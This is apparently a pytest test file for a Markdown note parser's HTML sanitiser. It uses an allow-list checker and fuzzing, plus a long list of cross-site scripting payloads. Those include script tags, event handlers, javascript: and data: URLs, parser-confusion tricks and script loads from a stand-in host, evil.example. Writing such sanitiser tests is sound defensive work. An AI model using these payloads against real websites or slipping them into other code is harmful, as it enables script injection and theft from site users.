"""No raw HTML, and no address, makes a page run, load or send anything."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from milkshake.model.note import Note
from milkshake.parse import parse

ELEMENTS = {
    *("a", "abbr", "acronym", "article", "aside", "b", "bdi", "bdo", "big", "blockquote", "br"),
    *("caption", "center", "cite", "code", "col", "colgroup", "data", "dd", "del", "details"),
    *("dfn", "div", "dl", "dt", "em", "figcaption", "figure", "font", "footer", "h1", "h2", "h3"),
    *("h4", "h5", "h6", "header", "hgroup", "hr", "i", "img", "input", "ins", "kbd", "li", "mark"),
    *("meter", "nav", "ol", "p", "pre", "progress", "q", "rp", "rt", "rtc", "ruby", "s", "samp"),
    *("section", "small", "span", "strike", "strong", "sub", "summary", "sup", "table", "tbody"),
    *("td", "tfoot", "th", "thead", "time", "tr", "tt", "u", "ul", "var", "wbr"),
    *("math", "semantics", "annotation", "mi", "mn", "mo", "mrow", "mtext", "msup", "msub"),
}
# Any program may own a scheme (`zotero:`); these are the browser's own.
ADDRESS = re.compile(
    r"(?!(?:javascript|vbscript|data|file|blob|about|view-source|filesystem):)[a-z][a-z0-9+.-]*:"
    r"|#|data:image/(?:png|gif|jpeg|webp);",
    re.IGNORECASE,
)


class Checker(HTMLParser):
    """Finds all that is not on the list of what is harmless."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS:
            self.bad.append(tag)
        for name, given_value in attrs:
            value = given_value or ""
            if name.startswith("on") or name in {"srcdoc", "formaction", "xlink:href", "srcset"}:
                self.bad.append(name)
            if name in {"href", "src", "cite", "action", "data"} and not ADDRESS.match(value):
                self.bad.append(f"{name}={value}")
            if name == "style" and re.search(r"url|expression|position|@|\\", value, re.IGNORECASE):
                self.bad.append(f"{name}={value}")

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def harm(note: Note) -> list[str]:
    """What of the note's page is not known to be harmless; links are the page's to write."""
    checker = Checker()
    checker.feed("".join(p if isinstance(p, str) else "<a>" if p >= 0 else "" for p in note.body))
    checker.close()
    return checker.bad


PAYLOADS = r'''
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script src="data:text/javascript,alert(1)">
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x20type="text/javascript">javascript:alert(1);</script>
<script/xss src="https://evil.example/x.js"></script>
<<script>alert(1);//<</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src="x"/onerror=alert(1)>
<img src="x`y" onerror=alert(1)>
<img """><script>alert(1)</script>">
<img src=javascript:alert(1)>
<img src="jav&#x09;ascript:alert(1);">
<img src="jav&#x0A;ascript:alert(1);">
<img src=" &#14;  javascript:alert(1);">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<img srcset="https://evil.example/x 1x">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x">
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">CLICK</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<xmp><p title="</xmp><img src onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<title><img title="</title><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<applet code=x></applet><frameset><frame src="javascript:alert(1)"></frameset>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x6A;&#x61;vascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="&#8232;javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.example">x</a>
<a href="\\evil.example">x</a>
<a href="/\evil.example">x</a>
<a href="milkshake:0">x</a> <img src="milkshake:0">
<a href=x onclick=alert(1)>x</a>
<a href="x" style="position:fixed;top:0">x</a>
<a href="https://example.org" target="_blank" ping="https://evil.example">x</a>
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<div style="background-image: url(javascript:alert(1))">x</div>
<div style="width: expression(alert(1));">x</div>
<div style="color: red; behavior: url(x.htc)">x</div>
<div style="background: \75rl(https://evil.example/x)">x</div>
<div style="font-family: 'x;}</style><script>alert(1)</script>'">x</div>
<body onload=alert(1)><html onclick=alert(1)>
<video><source onerror="alert(1)"></video>
<video poster=javascript:alert(1)//></video>
<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<input onfocus=alert(1) autofocus><select onfocus=alert(1) autofocus>
<input type="image" src="https://evil.example/x" onerror="alert(1)">
<button formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<isindex type=image src=1 onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">
<bgsound src="javascript:alert(1)"><layer src="https://evil.example/x">
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="https://evil.example">x</q>
<!--[if gte IE 4]><script>alert(1);</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><x><![CDATA[<]]>script<![CDATA[>]]>alert(1)</x>
<?php ><img src=x onerror=alert(1)> ?>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>
</title><script>alert(1)</script>
"><script>alert(1)</script>
'-alert(1)-'
<p title='</p><img src=x onerror=alert(1)>'>x</p>
<p title="a" title="b" onclick="c" onclick="d">x</p>
<a title="x" href="y" title="&quot;><img src=x onerror=alert(1)>">z</a>
<b/alt="1"onmouseover=alert(1) x="2">x</b>
<b onmouseover&#61;alert(1)>x</b>
<x onclick=alert(1)>x</x><custom-element onclick=alert(1)>
<img src="a.png" onerror="alert(1)" alt='"><script>alert(1)</script>'>
<image src=x onerror=alert(1)>
<p><svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg></p>
<select><template><style><!--</style><a rel="--></style></template></select><img onerror=x>">
<table><caption><svg><title><table><tr><style></title><img src=x onerror=alert(1)>
<a href="x"><a href="javascript:alert(1)">y</a></a>
&lt;script&gt;alert(1)&lt;/script&gt;
[x](javascript:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](java&#x0A;script:alert(1))
[x](&#x6A;avascript:alert(1))
[x](\javascript:alert(1))
[x](javascript&colon;alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:msgbox)
[x](//evil.example)
[x](https://example.org"onmouseover="alert(1))
[x](https://example.org "t\"onmouseover=\"alert(1)")
![x](javascript:alert(1))
![x](https://example.org/"onerror="alert(1))
![x"onerror="alert(1)](https://example.org/a)
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
<javascript:alert(1)>
<data:text/html,x>
[r]: javascript:alert(1)\n\n[r] [x][r]
[[javascript:alert(1)]] [[x|<img src=x onerror=alert(1)>]]
![[<img src=x onerror=alert(1)>]]
`<script>alert(1)</script>`
```<script>\n<script>alert(1)</script>\n```
```"onload="alert(1)\nx\n```
> [!"onload="alert(1)] <img src=x onerror=alert(1)>
> [!note|"onload="alert(1)] t
- ["] "onload="alert(1)
# <img src=x onerror=alert(1)> "onload="
a[^"onload="x] b\n\n[^"onload="x]: <script>alert(1)</script>
#tag"onload="x
$\href{javascript:alert(1)}{x}$ $\text{<script>alert(1)</script>}$ $</annotation><script>$
$$\n\\class{x}{<img src=x onerror=alert(1)>}\n$$
==<script>alert(1)</script>== k:: <script>alert(1)</script>
| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n| -- | -- |
'''.strip().split("\n")


@pytest.mark.parametrize("frame", ["{}", "text {} text", "<div>{}</div>", "> - {}"])
def test_nothing_of_an_attack_is_left(frame: str) -> None:
    left = {}
    for written in PAYLOADS:
        payload = written.replace("\\n", "\n").replace("\\x20", " ")
        if found := harm(parse("N.md", frame.format(payload))):
            left[payload] = found
    assert left == {}


PARTS = ["<", ">", "</", "/>", '"', "'", "=", " ", "\n", "a", "b", "p", "div", "svg", "math"]
PARTS += [
    "style",
    "script",
    "table",
    "td",
    "img src=x",
    " onerror=alert(1)",
    "title=",
    "<!--",
    "-->",
]
PARTS += [
    "<![CDATA[",
    "]]>",
    "<?",
    "?>",
    "&lt;",
    "&#x6a;",
    "noscript",
    "textarea",
    "mtext",
    "mglyph",
    "select",
]
PARTS += ["template", " href=", "javascript:", "x", "</style>", "</p>", "<b>", "</b>", "<i>", "$"]


@given(st.lists(st.sampled_from(PARTS), max_size=30), st.sampled_from(["", "<div>", "a "]))
@settings(max_examples=500, deadline=None)
def test_no_mixture_of_markup_does_harm(parts: list[str], before: str) -> None:
    assert harm(parse("N.md", before + "".join(parts))) == []


def test_the_checker_sees_harm() -> None:
    for body in ("<script>", "<b onclick='x'>", "<a href='javascript:x'>", "<img src='x.png'>"):
        assert harm(Note("N.md", "N", body=(body,)))
    for body in ("<iframe>", "<p style='background:url(x)'>", "<a href='//x'>", "<svg>"):
        assert harm(Note("N.md", "N", body=(body,)))


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("BACKGROUND: #FFF", "background:#FFF"),
        ("Color:Red", "color:Red"),
        ("background: light-dark(#fff, #000)", "background:light-dark(#fff, #000)"),
        ("BACKGROUND: URL(x)", ""),
    ],
)
def test_a_style_keeps_its_colour_in_any_case(written: str, kept: str) -> None:
    (body,) = parse("N.md", f'<mark style="{written}">x</mark>').body
    assert body == (
        f'<p><mark style="{kept}">x</mark></p>\n' if kept else "<p><mark>x</mark></p>\n"
    )


@pytest.mark.parametrize("words", ["one two", "a < b", "x & y", "1 > 0"])
def test_words_in_a_block_of_raw_html_are_kept(words: str) -> None:
    checker = Checker()
    body = parse("N.md", f"<div><p>{html.escape(words)}</p></div>").body
    checker.feed("".join(str(piece) for piece in body))
    assert "".join(checker.words).strip() == words
